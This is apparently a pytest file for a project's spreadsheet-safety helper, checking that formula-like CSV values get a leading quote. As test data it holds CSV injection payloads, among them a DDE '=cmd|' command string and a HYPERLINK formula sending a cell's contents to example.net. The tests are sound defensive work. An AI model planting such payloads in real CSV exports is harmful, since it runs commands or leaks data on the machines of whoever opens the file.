"""Neutralising formula cells in the CSV files that the project writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from bench.generate import HEADER, write_csv

from maizeplus.kit.spreadsheet_safety import (
    SafeCsvWriter,
    neutralise_formula,
    neutralise_row,
)

REPOSITORY_ROOT = Path(__file__).resolve().parents[2]
# The formula payloads of case C19, as the case file has them.
C19_VALUES = (
    '=HYPERLINK("http://example.net/?q="&A1,"Clicca qui")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+Lombardi",
    "-1+2",
)


@pytest.mark.parametrize(
    "value",
    [*C19_VALUES, "=1+1", "+1+1", "-2-3", "@A1", "\t=1+1", "\r=1+1", "=", "-"],
)
def test_formula_gets_quote(value: str) -> None:
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Anna", "", " =1+1", "'=1+1", "anna@example.com", "-12", "+3.5", "42", "Zoë"],
)
def test_text_and_numbers_unchanged(value: str) -> None:
    assert neutralise_formula(value) == value


def test_row_keeps_non_strings() -> None:
    assert neutralise_row(["=1", 3, None, True, -1.5]) == ["'=1", 3, None, True, -1.5]


def test_safe_writer_round_trip() -> None:
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer, delimiter=";")
    writer.writerow(["email", "first_name"])
    writer.writerows([["a@example.com", value] for value in C19_VALUES])

    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))

    assert rows[0] == ["email", "first_name"]
    assert [row[1] for row in rows[1:]] == ["'" + value for value in C19_VALUES]


def test_bench_generator_neutralises(tmp_path: Path) -> None:
    path = tmp_path / "users.csv"
    rows = [
        ["a@example.com", "=cmd|' /C calc'!A0", "@SUM(1+1)", *[""] * (len(HEADER) - 3)]
    ]

    write_csv(path, iter(rows))
    written = path.read_text(encoding="utf-8").splitlines()[1].split(";")

    assert written[1] == "'=cmd|' /C calc'!A0"
    assert written[2] == "'@SUM(1+1)"


def test_every_csv_writer_is_safe() -> None:
    """No code of the service or its tools builds a csv.writer except the helper."""
    writer = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(REPOSITORY_ROOT))
        for folder in ("src", "bench", "scripts")
        for path in (REPOSITORY_ROOT / folder).rglob("*.py")
        if writer.search(path.read_text(encoding="utf-8"))
        and path.name != "spreadsheet_safety.py"
    ]

    assert offenders == []
